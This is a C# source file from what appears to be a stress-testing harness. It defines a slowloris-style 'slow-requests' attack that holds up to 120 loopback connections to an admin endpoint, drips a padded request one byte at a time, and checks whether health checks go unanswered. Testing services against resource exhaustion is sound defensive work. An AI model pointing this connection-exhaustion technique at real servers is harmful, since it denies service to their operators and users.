using System.Net;
using System.Text;

namespace Megaphone.Attacks;

/// <summary>Requests to the admin endpoint that are sent a byte at a time, and again when their connection is closed.</summary>
internal sealed class SlowRequests : IAttack
{
    private const int Requests = 120;
    private static readonly TimeSpan Rest = TimeSpan.FromMilliseconds(100);
    private static readonly byte[] Request = Encoding.ASCII.GetBytes("GET /metrics HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + new string('x', 4000));

    /// <inheritdoc/>
    public string Name => "slow-requests";

    /// <inheritdoc/>
    public string Summary => $"{Requests} slow requests to the admin endpoint";

    /// <inheritdoc/>
    public Scene Scene => new();

    /// <inheritdoc/>
    public int MinActions => Requests;

    /// <inheritdoc/>
    public Task PrepareAsync(Target target, Timing timing) => Task.CompletedTask;

    /// <inheritdoc/>
    public async Task<Outcome> PlayAsync(Target target, Timing timing, CancellationToken end)
    {
        long connected = 0;
        using CancellationTokenSource over = new();
        Task attack = AttackThread.RunAsync(() =>
        {
            List<(AttackSocket Socket, int Sent)> requests = [];
            do
            {
                List<(AttackSocket Socket, int Sent)> open = [];
                foreach ((AttackSocket socket, int sent) in requests)
                {
                    socket.Drain();
                    socket.Send(Request.AsSpan(sent % Request.Length, 1), reads: false, over.Token);
                    if (socket.IsEnded) socket.Dispose();
                    else open.Add((socket, sent + 1));
                }

                while (open.Count < Requests && AttackSocket.Connect(target.Ecm.Admin, IPAddress.Loopback, over.Token) is { } made)
                {
                    open.Add((made, 0));
                    connected++;
                }

                requests = open;
            }
            while (!over.Token.WaitHandle.WaitOne(Rest));

            requests.ForEach(request => request.Socket.Dispose());
        });
        await Task.Delay(Rest, CancellationToken.None);
        HealthChecks health = await HealthChecks.AskAsync(target.Ecm, timing);
        await end.UntilAsync();
        await over.CancelAsync();
        await attack;
        return new Outcome(connected, $"{connected} connections, {health}", Harmed: health.Unanswered);
    }
}
